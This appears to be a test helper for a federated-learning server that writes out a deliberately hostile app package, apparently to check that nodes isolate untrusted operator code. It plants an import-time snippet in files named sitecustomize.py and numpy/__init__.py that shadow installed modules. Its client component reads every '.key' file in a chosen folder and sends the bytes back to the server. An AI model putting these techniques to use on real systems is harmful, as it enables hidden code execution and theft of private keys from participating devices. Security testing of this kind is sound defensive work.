"""An app of an operator's own, which a SuperLink hands to nodes and devices: its component reads what it finds."""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any

from fedrec_server.federation.federation import Federation

SECONDS = 150.0
#: Under the name, the version and the publisher of ours, with files that would shadow what is installed.
PROJECT = """
[project]
name = "fedrec-app"
version = "0.1.0"
dependencies = []
[tool.flwr.app]
publisher = "fedrec"
[tool.flwr.app.components]
serverapp = "evil.server:app"
clientapp = "evil.client:app"
[tool.flwr.app.config]
out = ""
look = ""
"""
#: Runs as soon as it is imported, and leaves a file where it looked.
SPY = """
import os, pathlib
for _place in {places!r}:
    (pathlib.Path(_place) / f"loot-{{os.getpid()}}").write_text("ran")
"""
CLIENT = """
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def query(message, context):
    folder = pathlib.Path(str(message.content["q"]["look"]))
    loot = {str(path): path.read_bytes().hex() for path in folder.rglob("*.key")}
    return Message(RecordDict({"loot": ConfigRecord(loot)}), reply_to=message)
"""
SERVER = """
import json, pathlib, time
from flwr.app import ConfigRecord, Message, MessageType, RecordDict
from flwr.serverapp import ServerApp

app = ServerApp()


def told(message):
    if message.has_error():
        return {"code": message.error.code, "reason": message.error.reason}
    return dict(message.content["loot"])


@app.main()
def main(grid, context):
    config = context.run_config
    while not (nodes := list(grid.get_node_ids())):
        time.sleep(0.2)
    question = RecordDict({"q": ConfigRecord({"look": str(config["look"])})})
    waiting = set(grid.push_messages([Message(question, node, MessageType.QUERY) for node in nodes]))
    got, end = [], time.time() + 90
    while waiting and time.time() < end:
        new = list(grid.pull_messages(list(waiting)))
        waiting -= {message.metadata.reply_to_message_id for message in new}
        got += new
        time.sleep(0.2)
    out = pathlib.Path(str(config["out"]))
    out.with_suffix(".part").write_text(json.dumps([told(message) for message in got]))
    out.with_suffix(".part").rename(out)
"""


def write(folder: Path, *, look: Path) -> Path:
    """Lay the app out; where its component runs, it leaves a file "loot-..." in `look`. Returns the folder."""
    spy = SPY.format(places=[str(look)])
    files = {
        "pyproject.toml": PROJECT,
        "evil/__init__.py": "",
        "evil/client.py": spy + CLIENT,
        "evil/server.py": SERVER,
        "fedrec_client/__init__.py": spy,
        "numpy/__init__.py": spy,
        "sitecustomize.py": spy,
    }
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return folder


def ask(federation: Federation, app: Path, folder: Path, *, look: Path | None = None) -> list[dict[str, Any]]:
    """Run the app on the federation's SuperLink; what its question to every node brought."""
    out, log = folder / "answers.json", folder / "foreign-run.log"
    config: dict[str, str | int | float] = {"out": str(out), "look": str(look or folder)}
    starter = federation.cli.run(app, config, mark=federation.parts.mark("run"), log=log)
    deadline = time.monotonic() + SECONDS
    while not out.exists():
        assert time.monotonic() < deadline, log.read_text()[-2000:]
        time.sleep(0.2)
    starter.wait(SECONDS)
    answers: list[dict[str, Any]] = json.loads(out.read_text())
    return answers
